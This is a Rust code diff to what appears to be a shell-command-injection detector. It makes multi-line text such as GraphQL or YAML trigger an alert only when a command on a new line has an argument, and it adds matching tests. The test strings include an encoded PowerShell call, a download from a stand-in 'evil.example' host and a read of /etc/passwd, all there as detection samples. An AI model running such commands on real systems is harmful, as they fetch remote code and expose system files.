@@ -728,6 +728,7 @@ fn glob(pat: &[u8], text: &[u8]) -> bool {
 
 fn chains(b: &[u8], paranoia: u8) -> Option<Hit> {
     let mut i = 0;
+    let mut multiline = None;
     let check_start = paranoia >= 2;
     if check_start {
         if let Some(h) = command_at(b, 0, 0, false, true) {
@@ -753,12 +754,58 @@ fn chains(b: &[u8], paranoia: u8) -> Option<Hit> {
                 continue;
             }
         };
-        if let Some(h) = command_at(b, i, after, substitution, false) {
+        // In multi-line text (GraphQL selections, YAML, lists, code) a line holding one word
+        // such as `id` or `date` is ordinary: after a line break, a command needs an argument.
+        if matches!(c, b'\n' | b'\r')
+            && multiline.get_or_insert_with(|| text_lines(b) >= 3) == &true
+        {
+            if shell_argument(b, read_word(b, after).end) {
+                if let Some(h) = command_at(b, i, after, substitution, false) {
+                    return Some(h);
+                }
+            }
+        } else if let Some(h) = command_at(b, i, after, substitution, false) {
             return Some(h);
         }
         i = after.max(i + 1);
     }
     None
+}
+
+/// Lines with something on them.
+fn text_lines(b: &[u8]) -> usize {
+    b.split(|c| matches!(c, b'\n' | b'\r'))
+        .filter(|line| line.iter().any(|c| !c.is_ascii_whitespace()))
+        .count()
+}
+
+/// A shell argument starts at `i` (after spaces or tabs): an option, a path, a variable, a
+/// redirection, a quote, a glob, or a further separator.
+fn shell_argument(b: &[u8], i: usize) -> bool {
+    let j = i + b[i.min(b.len())..]
+        .iter()
+        .take_while(|c| matches!(c, b' ' | b'\t'))
+        .count();
+    j > i
+        && b.get(j).is_some_and(|c| {
+            matches!(
+                c,
+                b'-' | b'/'
+                    | b'$'
+                    | b'~'
+                    | b'>'
+                    | b'<'
+                    | b'|'
+                    | b';'
+                    | b'&'
+                    | b'`'
+                    | b'\''
+                    | b'"'
+                    | b'*'
+                    | b'\\'
+            )
+        })
+        || matches!(b.get(i), Some(b';' | b'|' | b'&' | b'>' | b'<' | b'`'))
 }
 
 fn command_at(b: &[u8], sep: usize, at: usize, substitution: bool, start: bool) -> Option<Hit> {
@@ -891,6 +938,9 @@ mod tests {
             "powershell -enc SQBFAFgA",
             "Invoke-WebRequest http://evil.example/x.ps1",
             "x<(cat /tmp/f)",
+            "x\nid\n",
+            "{\n  id\n  name\n}\n\nid -a\n",
+            "line one\nline two\ncat /etc/passwd\n",
         ] {
             assert!(rule(a).is_some(), "missed {a}");
         }
@@ -916,6 +966,10 @@ mod tests {
             "time flies like an arrow",
             "see /docs/[draft]/notes?.md",
             "sh is a shell",
+            // GraphQL selections, YAML and lists put one word on a line.
+            "query {\n  getPost(id: \"1\") {\n    id\n    title\n    date\n  }\n}",
+            "fields:\n  - id\n  - env\n  - time\n",
+            "Packing list\nshoes\nwhoami badge\nsocks",
         ] {
             assert_eq!(rule(b), None, "false positive on {b}");
         }
